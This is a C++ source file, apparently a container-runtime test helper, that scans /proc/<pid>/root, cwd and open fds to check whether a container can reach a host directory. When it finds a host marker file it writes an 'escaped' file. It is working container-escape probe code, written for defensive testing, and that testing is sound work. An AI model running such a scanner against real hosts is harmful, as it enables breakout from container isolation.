// The attack of a ptrace-capable container on the runtime: it loops over /proc/<pid> of every
// process it can see and tries to reach the host through each one's root, cwd and open fds.
// A runtime process that shows up in the container's pid namespace with the host's root (or
// cwd, or a host directory fd) lets the scanner create a file on the host.
//
//   proc-scanner HOST_DIR SECONDS
//
// looks, for every pid but its own, for HOST_DIR's marker file `secret` through
//   /proc/<pid>/root/HOST_DIR/     (the process's root is the host's)
//   /proc/<pid>/cwd/               (its cwd is the host directory)
//   /proc/<pid>/fd/<n>/            (it holds the host directory open)
// and where the marker is there, creates `escaped-<how>-<pid>` beside it and prints "hit <path>"; at the end "scans N pids M", the number of passes
// over /proc and of distinct pids it looked at, so that a test can tell it really ran.
#include <dirent.h>
#include <fcntl.h>
#include <time.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>

namespace {

// `dir` is a path through /proc that may lead to the host directory; only there is the marker.
bool try_escape(const std::string& dir, const std::string& name) {
    if (::access((dir + "/secret").c_str(), F_OK) != 0) return false;
    std::string path = dir + "/" + name;
    int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC | O_NOCTTY, 0644);
    if (fd < 0) return false;
    ::close(fd);
    std::printf("hit %s\n", path.c_str());
    std::fflush(stdout);
    return true;
}

double now() {
    timespec ts{};
    ::clock_gettime(CLOCK_MONOTONIC, &ts);
    return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) / 1e9;
}

void scan_fds(const std::string& pid) {
    std::string dir = "/proc/" + pid + "/fd";
    DIR* d = ::opendir(dir.c_str());
    if (d == nullptr) return;
    while (dirent* e = ::readdir(d)) {
        if (e->d_name[0] == '.') continue;
        try_escape(dir + "/" + e->d_name, "escaped-fd-" + pid + "-" + e->d_name);
    }
    ::closedir(d);
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 3) {
        std::fprintf(stderr, "usage: proc-scanner HOST_DIR SECONDS\n");
        return 2;
    }
    std::string host_dir = argv[1];
    double until = now() + std::atof(argv[2]);
    std::string self = std::to_string(::getpid());
    std::set<std::string> seen;
    unsigned long scans = 0;
    while (now() < until) {
        DIR* proc = ::opendir("/proc");
        if (proc == nullptr) return 1;
        while (dirent* e = ::readdir(proc)) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
            std::string pid = e->d_name;
            if (pid == self) continue;
            seen.insert(pid);
            std::string base = "/proc/" + pid;
            try_escape(base + "/root" + host_dir, "escaped-root-" + pid);
            try_escape(base + "/cwd", "escaped-cwd-" + pid);
            scan_fds(pid);
        }
        ::closedir(proc);
        ++scans;
    }
    std::printf("scans %lu pids %zu\n", scans, seen.size());
    return 0;
}
